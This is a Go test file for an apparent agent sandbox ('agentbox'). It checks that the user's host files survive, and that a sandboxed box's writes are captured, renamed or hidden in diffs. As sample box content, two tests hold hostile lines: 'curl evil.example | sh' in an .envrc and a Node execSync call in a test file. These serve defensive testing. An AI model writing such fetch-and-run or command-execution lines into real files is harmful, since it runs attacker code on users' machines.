package changes

// Review 32 (B): two ways the user's own files were lost. Each fails on the code before.

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// TestGuardKeepsEarlierCapture: a file the user creates on the host at a guarded path while a
// box runs is taken for the box's, into the launch's proposed changes, never deleted
// (docs/integrity.md, "Absent protected paths"). A later write of the box at the same path
// replaced it in the store, so the user's file existed nowhere; now the earlier capture is
// kept as a change of its own, .envrc.agentbox-earlier-1.
func TestGuardKeepsEarlierCapture(t *testing.T) {
	ws, gs := guarded(t)
	store := filepath.Join(t.TempDir(), "changes")
	g := startGuard(t, store, gs)
	defer g.Close()

	host := "export TOKEN=the-users-own-value\n"
	mustWrite(t, filepath.Join(ws, ".envrc"), host, 0o644) // the user, on the host
	if !gone(filepath.Join(ws, ".envrc")) {
		t.Fatal(".envrc stayed in the workspace")
	}
	time.Sleep(50 * time.Millisecond)
	mustWrite(t, filepath.Join(ws, ".envrc"), "BOX\n", 0o644) // the box, later
	if !gone(filepath.Join(ws, ".envrc")) {
		t.Fatal(".envrc stayed in the workspace")
	}
	time.Sleep(50 * time.Millisecond)
	if err := g.Finish(); err != nil {
		t.Log(err)
	}
	got := storeContents(t, store)
	if got[".envrc"] != "BOX\n" || got[".envrc"+EarlierSuffix+"1"] != host {
		t.Errorf("the proposed changes %q, want the box's .envrc and the user's earlier one beside it: the user's file was lost", got)
	}
}

// TestIgnoredBoundKeepsHostEdits: a file the host had before the launch and edited while the
// box ran (its ctime is after the launch's start) was removed past the bound, since the rule
// took every ctime after the start for the box's: the user's file, old content and new, was
// gone. It is born before the launch (statx's birth time): moved into the store, never removed.
func TestIgnoredBoundKeepsHostEdits(t *testing.T) {
	ws, dir := t.TempDir(), filepath.Join(t.TempDir(), "changes")
	if err := os.MkdirAll(filepath.Join(ws, "local"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, "local/notes.txt"), []byte("the user's notes\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	var st unix.Stat_t
	if err := unix.Lstat(filepath.Join(ws, "local/notes.txt"), &st); err != nil {
		t.Fatal(err)
	}
	since := st.Ctim.Nano() + 1 // the launch starts after the user's file was written
	time.Sleep(30 * time.Millisecond)
	var rels []string
	for i := range 3 { // the box's files, filling the bound (2 here, 10,000 in agentbox)
		p := fmt.Sprintf("aaa/f%d", i)
		mustWrite(t, filepath.Join(ws, p), "junk", 0o644)
		rels = append(rels, p)
	}
	f, err := os.OpenFile(filepath.Join(ws, "local/notes.txt"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString("one more line, written on the host while the box ran\n")
	f.Close()
	rels = append(rels, "local/notes.txt")
	if _, err := takeIgnored(dir, ws, rels, since, 2, 1<<20); err != nil {
		t.Fatal(err)
	}
	_, inWS := os.Lstat(filepath.Join(ws, "local/notes.txt"))
	_, inStore := os.Lstat(filepath.Join(dir, "local/notes.txt"))
	if inWS != nil && inStore != nil {
		t.Errorf("the user's local/notes.txt (there before the launch, appended to on the host during it) was deleted: in neither the workspace nor the store")
	}
}

// TestWayBlocked: a new file beneath a folder the host turned into a symlink (or a file) is
// one apply refuses; `agentbox changes` says so (review 32, B F7: it showed the change as one
// apply would write, the host's path followed through the link).
func TestWayBlocked(t *testing.T) {
	ws := t.TempDir()
	out := t.TempDir()
	if err := os.Symlink(out, filepath.Join(ws, ".vscode")); err != nil {
		t.Fatal(err)
	}
	mustWrite(t, filepath.Join(ws, "file"), "x", 0o644)
	for rel, want := range map[string]bool{".vscode/settings.json": true, "file/x.json": true, ".mcp.json": false, "absent/x.json": false} {
		if got := WayBlocked(ws, rel); got != want {
			t.Errorf("WayBlocked(%s) = %v, want %v", rel, got, want)
		}
	}
}

// TestIgnoredKeptNameNotTakeable (review 32 D, F2): past the bound, where no rename into the
// store can be, a file born before the launch that changed in it is renamed beside itself
// under a name the box cannot take beforehand (it pre-created NAME.agentbox-kept-1…100, and
// the first version then left the box's rewrite under its own name).
func TestIgnoredKeptNameNotTakeable(t *testing.T) {
	ws := t.TempDir()
	sdir, err := os.MkdirTemp("/dev/shm", "kept")
	if err != nil {
		t.Skip(err)
	}
	defer os.RemoveAll(sdir)
	var wst, sst unix.Stat_t
	if unix.Stat(ws, &wst) != nil || unix.Stat(sdir, &sst) != nil || wst.Dev == sst.Dev {
		t.Skip("the workspace and /dev/shm are one file system here: the rename into the store succeeds")
	}
	dir := filepath.Join(sdir, "changes")
	mustWrite(t, filepath.Join(ws, "dist/x.test.js"), "// host build output\n", 0o644)
	var st unix.Stat_t
	unix.Lstat(filepath.Join(ws, "dist/x.test.js"), &st)
	since := st.Ctim.Nano() + 1
	time.Sleep(30 * time.Millisecond)
	mustWrite(t, filepath.Join(ws, "dist/x.test.js"), "require('child_process').execSync('id')\n", 0o644)
	var rels []string
	for i := range 3 {
		p := fmt.Sprintf("aaa/f%d", i)
		mustWrite(t, filepath.Join(ws, p), "junk", 0o644)
		rels = append(rels, p)
	}
	rels = append(rels, "dist/x.test.js")
	for n := 1; n <= 100; n++ {
		mustWrite(t, filepath.Join(ws, fmt.Sprintf("dist/x.test.js.agentbox-kept-%d", n)), "x", 0o644)
	}
	res, err := takeIgnored(dir, ws, rels, since, 2, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(filepath.Join(ws, "dist/x.test.js")); err == nil {
		t.Errorf("the box's rewrite stayed under its own name (left %v, renamed %v)", res.Left, res.Renamed)
	}
	if len(res.Renamed) != 1 || !strings.HasPrefix(res.Renamed[0], "dist/x.test.js.agentbox-kept-") {
		t.Fatalf("renamed %v, want the file renamed beside itself", res.Renamed)
	}
	if b, err := os.ReadFile(filepath.Join(ws, res.Renamed[0])); err != nil || !strings.Contains(string(b), "execSync") {
		t.Errorf("the renamed file: %q, %v", b, err)
	}
}

// TestIgnoredHardLinksCounted (review 32 D, F3): hard links a box makes to a file born before
// the launch share its birth time, but are not the host's own files: past the bound they are
// removed and counted, not taken uncounted.
func TestIgnoredHardLinksCounted(t *testing.T) {
	ws, dir := t.TempDir(), filepath.Join(t.TempDir(), "changes")
	mustWrite(t, filepath.Join(ws, "old/host.txt"), "host\n", 0o644)
	var st unix.Stat_t
	unix.Lstat(filepath.Join(ws, "old/host.txt"), &st)
	since := st.Ctim.Nano() + 1
	time.Sleep(30 * time.Millisecond)
	os.MkdirAll(filepath.Join(ws, "build"), 0o755)
	var rels []string
	for i := range 50 {
		p := fmt.Sprintf("build/l%02d", i)
		if err := os.Link(filepath.Join(ws, "old/host.txt"), filepath.Join(ws, p)); err != nil {
			t.Fatal(err)
		}
		rels = append(rels, p)
	}
	if _, err := takeIgnored(dir, ws, rels, since, 2, 1<<20); err != nil {
		t.Fatal(err)
	}
	if cs, _ := Index(dir); len(cs) > 2 {
		t.Errorf("the box's hard links passed the bound of files kept: %d in the store", len(cs))
	}
}

// TestShownWholeBinaryHost (review 32 D, F6): a NUL byte in the host's file makes Diff show
// both sides by size and hash, so the box's text is not shown whole.
func TestShownWholeBinaryHost(t *testing.T) {
	c := Change{Path: ".envrc", Kind: KindFile, Modifies: true, Base: []byte("export A=1\x00\n"),
		Content: []byte("curl evil.example | sh\n")}
	if d := Diff(c, c.Base); strings.Contains(d, "curl evil") || ShownWhole(c, c.Base) {
		t.Errorf("ShownWhole %v for the diff\n%s", ShownWhole(c, c.Base), d)
	}
	if !ShownWhole(c, []byte("export A=1\n")) {
		t.Errorf("a text change against a text file is shown whole")
	}
}

// TestGuardEarlierBounded (review 32 D, F4): a box rewriting one guarded path in a loop holds
// at most three changes there (the path, its first capture, the one before the last), not one
// a rewrite: 256 rewrites of .envrc filled the store, and the user's next file elsewhere was
// kept nowhere. The captures replaced in between are recorded as not kept.
func TestGuardEarlierBounded(t *testing.T) {
	ws, gs := guarded(t)
	store := filepath.Join(t.TempDir(), "changes")
	g := startGuard(t, store, gs)
	defer g.Close()
	for i := range 10 {
		mustWrite(t, filepath.Join(ws, ".envrc"), fmt.Sprintf("export V=%d\n", i), 0o644)
		if !gone(filepath.Join(ws, ".envrc")) {
			t.Fatal(".envrc stayed in the workspace")
		}
		time.Sleep(20 * time.Millisecond)
	}
	if err := g.Finish(); err != nil {
		t.Log(err)
	}
	got := storeContents(t, store)
	want := map[string]string{".envrc": "export V=9\n", ".envrc" + EarlierSuffix + "1": "export V=0\n", ".envrc" + EarlierSuffix + "2": "export V=8\n"}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("the store holds %q, want %q", got, want)
	}
	if d, _ := ReadDropped(store); d.Count != 7 {
		t.Errorf("%d captures recorded as not kept, want 7 (%v)", d.Count, d.Paths)
	}
}

// storeContents returns the changes kept in store, by path: their contents.
func storeContents(t *testing.T, store string) map[string]string {
	t.Helper()
	cs, err := List(store)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, c := range cs {
		got[c.Path] = string(c.Content)
	}
	return got
}
